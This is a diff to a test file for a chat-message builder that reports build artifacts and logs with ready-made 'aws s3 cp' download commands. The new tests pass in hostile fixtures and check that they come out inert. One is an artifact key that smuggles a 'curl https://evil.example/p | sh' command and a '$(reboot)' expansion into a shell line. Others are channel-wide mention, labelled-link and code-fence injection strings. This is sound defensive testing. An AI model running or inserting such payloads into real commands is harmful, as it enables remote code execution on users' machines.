@@ -181,26 +181,53 @@ describe('thread messages', () => {
     }
   });
 
-  it('completed: S3 URI, size, sha256, duration, a ready aws s3 cp command and the cost', () => {
+  it('completed: S3 URI, size, sha256, duration, a ready aws s3 cp command (URI quoted) and the cost', () => {
     const m = threadMessage(buildIn('completed'), { config, now: new Date(at(95)) });
     const all = sectionTexts(m.blocks).join('\n');
     const uri = `s3://hedgehog-lab-artifacts/${ARTIFACT_KEY}`;
     expect(all).toContain(`\`${uri}\` (41.2 GB)`);
     expect(all).toContain('e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855');
     expect(all).toContain('*completed* in 1 h 26 min');
-    expect(all).toContain(`\`\`\`\naws s3 cp ${uri} .\n\`\`\``);
+    expect(all).toContain(`\`\`\`\naws s3 cp "${uri}" .\n\`\`\``);
     expect(all).toMatch(/Cost so far \$\d+\.\d\d/);
-    expect(m.text).toContain(`aws s3 cp ${uri} .`);
+    expect(m.text).toContain(`Download: \`aws s3 cp "${uri}" .\``);
   });
 
-  it('failed: ErrorMessage, LogTail in a code block, the log download and the CloudWatch group', () => {
+  it('failed: ErrorMessage and LogTail in code blocks, the log download and the CloudWatch group', () => {
     const m = threadMessage(buildIn('failed'), ctx);
     const all = sectionTexts(m.blocks).join('\n');
-    expect(all).toContain('*failed*: packer build exited with status 1');
+    expect(all).toContain('*failed*:\n```\npacker build exited with status 1\n```');
     expect(all).toContain("```\n==&gt; qemu: waiting for SSH\nBuild 'qemu' errored: timeout waiting for SSH\n```");
-    expect(all).toContain('aws s3 cp s3://hedgehog-lab-artifacts/builds/build-20261125-170052-a1b2/logs/build.log .');
+    expect(all).toContain('`aws s3 cp "s3://hedgehog-lab-artifacts/builds/build-20261125-170052-a1b2/logs/build.log" .`');
     expect(all).toContain('/labapp/metal-builds/build-20261125-170052-a1b2');
-    expect(m.text).toContain('failed: packer build exited with status 1');
+    expect(m.text).toContain('failed: `packer build exited with status 1`');
+  });
+
+  it('offers no copy-paste command for a stored key a shell could expand, and shows it inert', () => {
+    const key = 'builds/x/a.ova" . ; curl https://evil.example/p | sh ; echo "';
+    const done = threadMessage({ ...buildIn('completed'), ArtifactKey: key }, { config, now: new Date(at(95)) });
+    expect(JSON.stringify(done)).not.toContain('aws s3 cp');
+    expect(sectionTexts(done.blocks).join('\n')).toContain('`s3://hedgehog-lab-artifacts/builds/x/a.ova" . ; curl https://evil.example/p | sh ; echo "`');
+    const failed = threadMessage({ ...buildIn('failed'), LogKey: 'builds/$(reboot)/logs/build.log' }, ctx);
+    expect(JSON.stringify(failed)).not.toContain('aws s3 cp');
+  });
+
+  it('keeps machine text inert everywhere: no mention, no labelled link, no fence that ends the block, even when cut', () => {
+    const hostile = '<!channel> <!here> <@U0TARGET> <!subteam^S1|devs> @here @channel @everyone <https://evil.example|fix> ````';
+    const long = capLogTail(`${'filler line\n'.repeat(300)}${hostile}\n${'x'.repeat(2000)} ${hostile}`);
+    for (const m of [
+      threadMessage({ ...buildIn('failed'), ErrorMessage: hostile, LogTail: hostile }, ctx),
+      threadMessage({ ...buildIn('failed'), ErrorMessage: hostile, LogTail: long }, ctx),
+      buildCard({ ...buildIn('failed'), ErrorMessage: hostile }, ctx),
+    ]) {
+      const shown = [m.text, ...sectionTexts(m.blocks)].join('\n');
+      for (const live of ['<!', '<@U0TARGET', '<https', '@here', '@channel', '@everyone']) expect(shown, live).not.toContain(live);
+      // Each code block opens and closes exactly where the view put it: no ``` from the text.
+      for (const text of sectionTexts(m.blocks)) expect((text.match(/```/g) ?? []).length % 2).toBe(0);
+    }
+    const logSection = sectionTexts(threadMessage({ ...buildIn('failed'), LogTail: long }, ctx).blocks).find((t) => t.startsWith('*Last log lines*'))!;
+    expect(logSection).toContain('… (earlier lines cut)');
+    expect((logSection.match(/```/g) ?? []).length).toBe(2);
   });
 
   it('cuts a long LogTail from its start so the section stays within 3000 characters, keeping the last line', () => {
